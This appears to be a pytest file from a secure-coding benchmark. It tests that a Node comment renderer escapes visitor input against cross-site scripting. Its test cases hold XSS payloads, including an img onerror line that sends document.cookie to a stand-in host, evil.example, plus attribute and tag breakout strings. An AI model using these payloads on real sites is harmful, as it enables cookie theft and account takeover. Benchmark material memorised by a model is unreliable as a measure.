"""Tests for renderComment (Node): visitor-supplied text must not inject markup or attributes."""

import json
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sectree_check import assert_same

SRC = Path(__file__).with_name("cwe_079_0_js_task.js")

CASES = {
    "plain": ("alice", "Nice post!"),
    "special-chars": ("Tom & Jerry", "if a < b && c > d then 1 <3"),
    "quotes": ("Conan O'Brien", 'He said "hi" & left'),
    "script-in-text": ("eve", "<script>alert(document.cookie)</script>"),
    "img-in-text": ("eve", '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">'),
    "attr-breakout-author": ('eve" onmouseover="alert(document.cookie)" x="', "hi"),
    "tag-breakout-author": ('eve"><script>alert(1)</script><div title="', "hi"),
    "single-quote-author": ("eve' onfocus='alert(1)' autofocus='", "hi"),
}


class Parsed(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []  # (tag, attrs)
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs), len(attrs)))

    def handle_data(self, data):
        self.text += data


def parse(html):
    p = Parsed()
    p.feed(html)
    p.close()
    return p


@pytest.fixture(scope="module")
def html():
    args = [x for pair in CASES.values() for x in pair]
    proc = subprocess.run(["node", str(SRC), *args], timeout=5, capture_output=True)
    lines = proc.stdout.decode("utf-8", "replace").splitlines()
    return {key: json.loads(line) for key, line in zip(CASES, lines)}


def assert_renders_as_plain_comment(out, author, text):
    doc = parse(out)
    assert_same([t[0] for t in doc.tags], ["div", "p"], f"unexpected elements in {out!r}")
    (_, div_attrs, n_div), (_, p_attrs, n_p) = doc.tags
    assert n_div == 2 and div_attrs.get("class") == "comment", f"unexpected attributes in {out!r}"
    assert_same(div_attrs.get("title"), f"Comment by {author}")
    assert_same(n_p, 0)
    assert_same(doc.text, text)


@pytest.mark.functionality
@pytest.mark.parametrize("key", ["plain", "special-chars", "quotes"])
def test_renders_comment(html, key):
    assert_renders_as_plain_comment(html[key], *CASES[key])


@pytest.mark.functionality
def test_exact_markup_for_plain_input(html):
    assert html["plain"] == '<div class="comment" title="Comment by alice"><p>Nice post!</p></div>'


@pytest.mark.security
@pytest.mark.parametrize("key", ["script-in-text", "img-in-text", "attr-breakout-author", "tag-breakout-author", "single-quote-author"])
def test_input_cannot_inject_markup(html, key):
    assert key in html, "no output"
    assert_renders_as_plain_comment(html[key], *CASES[key])
